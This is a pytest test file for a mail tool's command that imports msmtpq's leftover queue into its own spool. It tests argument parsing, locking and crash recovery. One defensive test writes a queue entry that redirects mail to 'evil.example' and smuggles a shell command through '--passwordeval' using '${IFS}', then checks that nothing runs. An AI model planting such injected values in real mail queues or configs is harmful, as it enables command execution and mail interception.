"""``pillarbox queue import``: what msmtpq left waiting goes into the queue, and nothing is lost."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from pillarbox.cli.queue_import import DONE, folder_of, split_arguments
from pillarbox.spool.directory import Directory
from programs import call_program

MAIL = b"From: me@example.org\nTo: you@example.net\nSubject: old\n\nfrom msmtpq\n"


@pytest.fixture(name="home")
def _home(tmp_path):
    """Return a home with a configuration and an empty queue of msmtpq."""
    (tmp_path / ".msmtprc").write_text(
        "account default\nhost 127.0.0.1\nport 9\nfrom me@example.org\nqueue on\n"
    )
    (tmp_path / ".msmtprc").chmod(0o600)
    (tmp_path / ".msmtp.queue").mkdir(mode=0o700)
    return tmp_path


def leave(home, name, arguments, mail=MAIL):
    """Have msmtpq leave a mail."""
    folder = home / ".msmtp.queue"
    (folder / f"{name}.mail").write_bytes(mail)
    (folder / f"{name}.msmtp").write_text(f"{arguments}\n")


def run_import(home, *words):
    """Run the import in a home."""
    return call_program("pillarbox", ["queue", "import", *words], env={"HOME": str(home)})


def queued(home):
    """Return sender, recipients and content of each mail in the user's own queue."""
    spool = Directory(str(home / ".local/state/pillarbox/spool"))
    spool.open()
    found = []
    for name in sorted(spool.names()):
        claim = spool.claim(name)
        envelope = claim.entry.head.envelope
        found.append(
            (str(envelope.reverse_path), [*map(str, envelope.forward_paths)], claim.read(1 << 20))
        )
        claim.close()
    spool.close()
    return found


def names_in(folder):
    """Return the names in a folder."""
    return sorted(path.name for path in folder.iterdir())


def test_each_pair_goes_into_the_queue_and_then_aside(home):
    """The mail octet by octet, with the recipients that msmtp was to get."""
    leave(home, "2024-01-01-10.00.00", "-f sender@example.org -- you@example.net it@example.net")
    leave(home, "2024-01-02-10.00.00", "-t -i")
    result = run_import(home, "--yes")
    assert (result.exit_code, result.err) == (0, "")
    assert queued(home) == [
        ("sender@example.org", ["you@example.net", "it@example.net"], MAIL),
        ("me@example.org", ["you@example.net"], MAIL),
    ]
    for text in ("2024-01-01-10.00.00  msmtp -f sender@example.org", "    Subject: old",
                 "2024-01-02-10.00.00  is in the queue"):  # fmt: skip
        assert text in result.out
    folder = home / ".msmtp.queue"
    assert names_in(folder) == [DONE]
    assert len(names_in(folder / DONE)) == 4
    again = run_import(home, "--yes")
    assert (again.exit_code, again.out, len(queued(home))) == (0, "no mail waits\n", 2)


def test_without_a_yes_nothing_is_done(home):
    """It is shown, and stays where it is."""
    leave(home, "a", "you@example.net")
    result = run_import(home)
    assert (result.exit_code, names_in(home / ".msmtp.queue")) == (64, ["a.mail", "a.msmtp"])
    assert "Subject: old" in result.out


def test_one_that_cannot_be_queued_stays_and_the_others_go(home):
    """And the exit code says so."""
    leave(home, "1", "--no-such-option x")
    leave(home, "2", "you@example.net")
    result = run_import(home, "--yes")
    assert result.exit_code == 64
    assert "1 is not in the queue: msmtp ended with code 64" in result.err
    assert names_in(home / ".msmtp.queue") == ["1.mail", "1.msmtp", DONE]
    assert len(queued(home)) == 1


def test_attack_a_queue_that_says_where_to_send(home):
    """Options that change how mail is sent have no place in a queue; nothing is run or sent."""
    canary = home / "canary"
    leave(home, "a", f"--host=evil.example --passwordeval=touch${{IFS}}{canary} you@example.net")
    result = run_import(home, "--yes")
    assert result.exit_code != 0
    assert not canary.exists()


def test_msmtpq_at_work_is_not_disturbed(home):
    """Its lock is a directory; ours is the same."""
    leave(home, "a", "you@example.net")
    (home / ".msmtp.queue" / ".lock").mkdir()
    result = run_import(home, "--yes")
    assert result.exit_code == 75
    assert ".lock" in result.err
    assert not (home / ".local").exists()


def test_a_mail_without_its_arguments_is_left_alone(home):
    """Nobody knows whom it is for."""
    (home / ".msmtp.queue" / "a.mail").write_bytes(MAIL)
    assert run_import(home, "--yes").out == "no mail waits\n"


def test_a_queue_that_is_not_there(home):
    """The message names it."""
    result = run_import(home, str(home / "nowhere"), "--yes")
    assert result.exit_code == 66
    assert "nowhere" in result.err


@pytest.mark.parametrize(("line", "words"), [
    ("", []),
    ("-f a@b -- c@d\n", ["-f", "a@b", "--", "c@d"]),
    ("-F John Q Public -- to@x.org", ["-F", "John Q Public", "--", "to@x.org"]),
    ("-F John Q Public to@x.org", ["-F", "John Q Public", "to@x.org"]),
    ("-FJohn Q Public -t", ["-FJohn Q Public", "-t"]),
    ("--from-full-name=John Q to@x.org", ["--from-full-name=John Q", "to@x.org"]),
    ("--from_full_name John to@x.org", ["--from_full_name", "John", "to@x.org"]),
    ("-F John", ["-F", "John"]),
    ("-F", ["-F", ""]),
])  # fmt: skip
def test_arguments_that_lost_their_quotes_are_found_again(line, words):
    """A full name with spaces is the one that happens: msmtpq sent its words to nobody."""
    assert list(split_arguments(line)) == words


@pytest.mark.parametrize(("given", "env", "folder"), [
    ("/x", {"MSMTPQ_Q": "/y"}, "/x"), ("", {"MSMTPQ_Q": "/y", "Q": "/z"}, "/y"),
    ("", {"Q": "/z"}, "/z"), ("", {}, f"{Path.home()}/.msmtp.queue"),
])  # fmt: skip
def test_the_folder_is_msmtpqs_own(given, env, folder):
    """As msmtpq itself finds it."""
    assert str(folder_of(given, env)) == folder


def test_killed_in_between_it_is_put_in_again_and_never_lost(home):
    """What is queued and not yet aside comes twice; nothing comes not at all."""
    leave(home, "a", "you@example.net")
    (home / ".msmtp.queue" / DONE).write_text("a file where the folder should be")
    result = run_import(home, "--yes")
    assert result.exit_code == 74
    assert names_in(home / ".msmtp.queue") == ["a.mail", "a.msmtp", DONE]
    os.unlink(home / ".msmtp.queue" / DONE)
    assert run_import(home, "--yes").exit_code == 0
    assert len(queued(home)) == 2
